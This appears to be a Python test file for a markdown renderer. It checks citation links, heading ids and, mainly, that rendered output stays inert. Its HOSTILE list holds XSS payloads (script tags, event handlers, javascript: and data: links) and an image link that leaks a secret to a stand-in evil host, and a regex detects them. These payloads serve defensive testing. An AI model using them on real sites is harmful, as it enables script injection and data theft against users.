"""Markdown from models and people: marks become links, and nothing in it can do harm."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services import markdown

HOSTILE = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg><animate onbegin=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil><input name=q></form>",
    "<style>@import '//evil'</style>",
    '<a id="__proto__">x</a>',
    "[x](javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![t](https://evil.example/?q=SECRET)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<https://a.example/\"onmouseover='alert(1)'>",
)
HARM = re.compile(
    r"<(?:script|img|svg|math|iframe|form|style|input)\b|\son\w+\s*=\s*[\"']?(?:window|alert)[^<>]*>|(?:href|src)=\"(?:javascript|vbscript|data):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    assert HARM.search(markdown.render(f"Before {text} after\n\n{text}\n")) is None


def test_a_picture_is_never_loaded_and_its_description_is_shown() -> None:
    assert markdown.render("![a <b>heap</b>](https://evil.example/x.png)") == (
        "<p>a &lt;b&gt;heap&lt;/b&gt;</p>\n"
    )


def test_a_marker_becomes_a_link_only_where_its_citation_exists() -> None:
    assert markdown.render("Turn it. [1] Wet it. [2]", (1,)) == (
        '<p>Turn it.<sup><a href="#note-1" id="ref-1" aria-label="note 1" rel="noopener noreferrer nofollow">1</a></sup>'
        " Wet it. [2]</p>\n"
    )


def test_the_second_marker_of_a_number_has_no_id_again() -> None:
    assert markdown.render("a [1] b [1]", (1,)).count('id="ref-1"') == 1


def test_markers_in_code_and_links_are_left_alone() -> None:
    html = markdown.render("`[1]` [see [1]](https://a.example)", (1,))

    assert "note-1" not in html


def test_headings_fit_under_the_title_and_have_ids_of_their_own() -> None:
    assert markdown.render("# Air\n\n## Air\n") == '<h2 id="s-air">Air</h2>\n<h2 id="s-air-2">Air</h2>\n'


def test_markers_are_named_once_in_order_of_appearance() -> None:
    assert markdown.markers("b [2] a [1] again [2]") == [2, 1]


@given(st.text(alphabet=st.sampled_from("<>&\"'()[]!`*_#\n ab/:=1-"), max_size=80))
def test_no_mix_of_marks_does_harm(text: str) -> None:
    html = markdown.render(text, (1,))

    assert HARM.search(html) is None
